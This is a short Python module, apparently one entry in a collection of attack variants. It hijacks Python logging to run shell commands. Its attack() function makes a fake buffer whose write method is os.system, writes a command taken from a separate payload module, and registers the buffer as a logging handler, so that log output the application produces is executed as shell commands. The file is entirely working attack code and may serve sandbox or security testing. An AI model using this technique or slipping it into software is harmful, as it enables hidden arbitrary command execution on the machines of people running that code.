"""A text waits in a file that the application logs into."""
CATEGORY = "deferred"
REACH = "run"

import io
import logging
import os

from . import payload


class Buffer:
    """What a text file needs, and a function of C that is called."""
    closed = False
    readable = writable = staticmethod(lambda: True)
    seekable = staticmethod(lambda: False)
    flush = close = staticmethod(int)

    def __init__(self):
        self.write = os.system


def attack():
    file = io.TextIOWrapper(Buffer(), encoding="utf-8")
    file.write(payload.COMMAND + "\n")
    logging.getLogger().addHandler(logging.StreamHandler(file))
